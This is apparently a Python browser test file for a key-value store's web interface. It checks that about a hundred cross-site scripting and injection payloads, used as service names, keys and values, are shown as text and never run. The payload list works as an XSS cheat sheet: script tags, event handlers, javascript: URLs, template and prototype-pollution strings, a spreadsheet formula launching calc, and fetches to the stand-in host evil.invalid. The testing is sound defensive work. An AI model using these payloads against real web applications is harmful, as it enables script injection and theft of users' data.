"""Whatever a name or a value says, it is shown, never run."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest

import kvengine
from kvengine.ui.serve import Site
from tests.ui.browser import Watch, launched

RUN = "window.pwned=1;alert(1);fetch('http://evil.invalid/')"

# Where each lands in markup, an attribute, a script, an address, a style or a template.
SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<script src=data:text/javascript,{}></script>",
    '<script type=module>import "//evil.invalid/x.js"</script>',
    "<img src=x onerror={}>",
    '<img src="//evil.invalid/x.png">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<math><mtext><img src onerror={}></mtext></math>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=//evil.invalid/x.swf>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=//evil.invalid/x.mp3 autoplay>",
    "<input autofocus onfocus={}>",
    "<form action=//evil.invalid><input type=submit autofocus></form>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css'; *{{background:url(//evil.invalid/x)}}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<base href=//evil.invalid/>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src onerror={}>'>",
    "<textarea></textarea><img src onerror={}>",
    "<title></title><img src onerror={}>",
    "<!--<img src='--><img src=x onerror={}>'>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<div style='background:url(//evil.invalid/x)'>",
    "<a href=javascript:{}>x</a>",
    "<button popovertarget=x onclick={}>x</button>",
    "<dialog open><script>{}</script></dialog>",
    "<marquee onstart={}>x</marquee>",
    "<x onpointerrawupdate={} style=position:fixed;inset:0>",
    "<portal src=//evil.invalid>",
    "<slot onslotchange={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "` onmouseover={} `",
    '" autofocus onfocus={} x="',
    '" style="position:fixed;inset:0" onmouseover="{}',
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "//evil.invalid/",
    "http://evil.invalid/?{}",
    "#/services?<script>{}</script>",
    "../../static/app.js?{}",
    "%3Cscript%3E{}%3C/script%3E",
    "%22onload=%22{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "`${{{}}}`",
    "<%= {} %>",
    "#{{{}}}",
    "'-({})-'",
    '";{};//',
    "';{};//",
    "\\';{};//",
    "*/{};/*",
    "\n{}\n//",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>{}</script>",
    "\u2028{}\u2029",
    "\0<script>{}</script>",
    "<scr\0ipt>{}</script>",
    "\ufeff<script>{}</script>",
    "\u202e<script>{}</script>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<script>{}",
    "<<script>{}//<</script>",
    "<img/src=`x`/onerror={}>",
    "<img src=x:x onerror\n=\n{}>",
    "<IMG SRC=x ONERROR={}>",
    "<svg/onload={}>",
    "<img src=x onerror=&#119;indow.pwned=1>",
    "<a id=toasts><a id=bar><a id=main>",
    "<form id=main><input name=append><input name=replaceChildren>",
    "<img name=localStorage><img name=fetch>",
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "then",
    "{{\"__proto__\":{{\"pwned\":1}}}}",
    '{{"toJSON":"{}","then":"x"}}',
    "=cmd|'/c calc'!A1",
    "$&$1$$",
    "%s%n%d{}",
    "\x1b]0;{}\x07",
    "\x1b[2J<script>{}</script>",
)  # fmt: skip
PAYLOADS = [shape.format(RUN) for shape in SHAPES]


@pytest.fixture(scope="module")
def hostile(db: kvengine.Engine) -> kvengine.Engine:
    """Each payload as a service, as its key, as its state key, and as its value."""
    with db.batch() as batch:
        for text in PAYLOADS:
            batch.set(text, text, text, text.encode())
            batch.set(text, text, "json", kvengine_json(text))
    return db


def kvengine_json(text: str) -> bytes:
    import msgspec

    return msgspec.json.encode({text: [text]})


@pytest.fixture
def page(site: Site, hostile: kvengine.Engine) -> Iterator[Any]:
    watch = Watch(site.url)
    with launched() as browser:
        page = browser.new_page(reduced_motion="reduce")
        page.set_default_timeout(10_000)
        watch.watch(page)
        page.goto(site.launch_url())
        page.wait_for_selector("tbody tr")
        yield page
        assert page.evaluate("[window.pwned, {}.pwned]") == [None, None]
        browser.close()
    assert watch.troubles == []


TOUR = """async ([service, key, stateKey]) => {
  const code = encodeURIComponent;
  const until = async (done) => {
    for (let times = 0; !done(); times += 1) {
      if (times > 2000) throw new Error(`waited in vain at ${location.hash}`);
      await new Promise((on) => setTimeout(on, 2));
    }
  };
  const all = (selector) => [...document.querySelectorAll(selector)];
  const press = (where, text) =>
    all(`${where} button`).find((each) => each.textContent === text).click();
  const shown = [];
  location.hash = `#/objects/${code(service)}`;
  await until(() => document.querySelector('.objects tbody tr'));
  shown.push(all('h1')[0].textContent, all('td.main')[0].textContent);
  location.hash = `#/object/${code(service)}/${code(key)}/${code(stateKey)}`;
  await until(() => document.querySelector('.panel .value'));
  for (const way of ['Hex', 'Text']) press('.panel', way);
  shown.push(all('.panel .value')[0].textContent);
  press('.panel', 'Edit');
  await until(() => document.querySelector('textarea'));
  press('.editor', 'Cancel');
  await until(() => !document.querySelector('textarea'));
  return shown;
}"""


def test_a_hundred_payloads_run_nothing(page: Any) -> None:
    """As service, key, state key and value, listed, opened, edited: no dialog, no script, no
    request elsewhere, nothing that the policy had to stop; and the text itself is there."""
    assert len(set(PAYLOADS)) >= 100
    for number, text in enumerate(PAYLOADS):
        title, key, value = page.evaluate(TOUR, [text, text, text])
        if text.isprintable() and "  " not in text and len(text) <= 160:
            assert (title.removesuffix("Copy"), key) == (text, text)
        if text.isprintable():
            assert value == text
        if number % 3 == 0:
            page.evaluate(TOUR, [text, text, "json"])


def test_payloads_run_nothing_in_dialogs_and_conflicts(page: Any, hostile: kvengine.Engine) -> None:
    """A conflict, the typed confirmation, an error of the server, a search that finds nothing."""
    for text in PAYLOADS[::17]:
        page.evaluate(TOUR, [text, text, text])
        page.get_by_role("button", name="Edit", exact=True).click()
        area = page.locator("textarea")
        area.fill("00" if re.match(r"^[0-9a-f]{2}( |$)", area.input_value()) else '"mine"')
        hostile.set(text, text, text, text.encode() + b"!")
        page.get_by_role("button", name="Save", exact=True).click()
        page.locator("dialog .pane").first.wait_for()
        page.keyboard.press("Escape")
        page.locator(".editor").get_by_role("button", name="Cancel").click()
        page.get_by_role("button", name="Drop my changes").click()
        page.locator("textarea").wait_for(state="detached")
        page.evaluate("hash => { location.hash = hash }", "#/services")
        page.locator(".services tbody tr").first.wait_for()
        page.evaluate("text => { location.hash = '#/objects/' + encodeURIComponent(text) }", text)
        page.locator(".objects tbody tr").first.wait_for()
        page.get_by_role("button", name="Clear service…").click()
        page.locator("dialog .typed").wait_for()
        page.keyboard.press("Escape")
        page.get_by_role("searchbox").fill(text + "no such")
        page.get_by_text("No key begins with").wait_for()
